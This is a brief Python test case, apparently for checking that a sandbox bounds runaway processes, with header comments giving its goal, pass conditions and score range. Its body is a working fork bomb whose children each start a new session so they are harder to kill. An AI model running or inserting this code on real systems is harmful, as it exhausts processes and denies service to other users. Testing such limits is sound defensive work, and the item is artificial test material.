# tries: forks until it cannot, every child in a session of its own, all of them busy
# must: it is ended or bounded, what was done before counts, and the neighbour earns its marks
# score: [1, 22]
# questions: {q1_look: 1}
# remarks: limits

# %% +after q1_look
import os

print("tried: a fork bomb in sessions of their own", flush=True)
while True:
    try:
        if os.fork() == 0:
            os.setsid()
            while True:
                try:
                    if os.fork() == 0:
                        os.setsid()
                except OSError:
                    pass
    except OSError:
        pass
